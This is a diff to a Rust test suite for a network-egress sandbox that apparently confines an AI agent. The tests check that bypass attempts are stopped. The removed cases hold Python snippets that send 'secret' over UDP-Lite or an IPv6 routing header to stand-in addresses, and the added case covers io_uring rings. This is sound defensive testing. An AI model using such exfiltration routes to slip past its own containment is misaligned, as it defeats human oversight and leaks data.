@@ -1,9 +1,8 @@
-//! Ways around the connect hook, each stopped by what is there for it. Where two controls stand behind each other,
-//! one is left out to see the other, and both to see the sniffer notice.
+//! Ways around the connect hook, each stopped by what is there for it.
 
 use anyhow::Result;
 use shield_common::event::Reason;
-use shield_tests::world::{World, python, run};
+use shield_tests::world::{python, run};
 
 use crate::{actor, world};
 
@@ -30,51 +29,18 @@ for family, address in [(socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")]
     world.assert_silent()
 }
 
-const UDP_LITE: &str = r#"
-IPPROTO_UDPLITE = 136
-def send():
-    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, IPPROTO_UDPLITE)
-    sender.connect(("1.2.3.4", 443))
-    sender.send(b"secret")
-say(outcome(send))
-"#;
-
-/// What the agent is told, and whether the packet left.
-fn udp_lite(omitted: &[&str]) -> Result<Option<(String, bool)>> {
-    let Some(mut world) = World::without(actor(), omitted)? else { return Ok(None) };
-    let _proxy = world.serve()?;
-    let said = world.run(UDP_LITE)?;
-    Ok(Some((said, !world.leaks()?.is_empty())))
-}
-
-// Case 17.
+// Case 24. The launcher takes rings away; this is for who is gated without it.
 #[test]
-fn udp_lite_is_stopped_by_the_socket_rule_and_by_the_backstop_each_alone() -> Result<()> {
-    let Some(refused) = udp_lite(&[])? else { return Ok(()) };
-    assert_eq!(refused, ("EPROTONOSUPPORT".into(), false));
-    assert_eq!(udp_lite(&["gate_egress"])?, Some(("EPROTONOSUPPORT".into(), false)));
-    assert_eq!(udp_lite(&["gate_create"])?, Some(("EPERM".into(), false)));
-    assert_eq!(udp_lite(&["gate_create", "gate_egress"])?, Some(("ok".into(), true)));
-    Ok(())
-}
-
-const SEGMENT_ROUTING: &str = r#"
-IPV6_RTHDR = 57
-def send():
-    sender = udp(socket.AF_INET6)
-    header = bytes([0, 2, 4, 0, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, "::1")
-    sender.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, header)
-    sender.sendto(b"secret", ("2001:db8::53", 53))
-say(outcome(send))
-"#;
-
-// Case 21.
-#[test]
-fn segment_routing_is_refused_as_an_option() -> Result<()> {
+fn what_a_ring_does_for_the_agent_is_gated_like_its_own_calls() -> Result<()> {
     let Some(mut world) = world()? else { return Ok(()) };
-    let _proxy = world.serve()?;
-    assert_eq!(world.run(SEGMENT_ROUTING)?, "EPERM");
-    assert_eq!(world.counted(Reason::RoutingOption)?, 1);
+    let proxy = world.serve()?;
+    for poller in ["own-thread", "kernel-thread"] {
+        let output = world.agent(actor())?.args(["ring", poller]).output()?;
+        let said = String::from_utf8(output.stdout)?;
+        assert_eq!(said, "proxied\nECONNREFUSED\nECONNREFUSED\nEPROTONOSUPPORT\n", "{poller}");
+        let original = proxy.original()?;
+        assert_eq!((&original.address[12..], original.port), (&[1, 2, 3, 4][..], 443), "{poller}");
+    }
     world.assert_silent()
 }
 
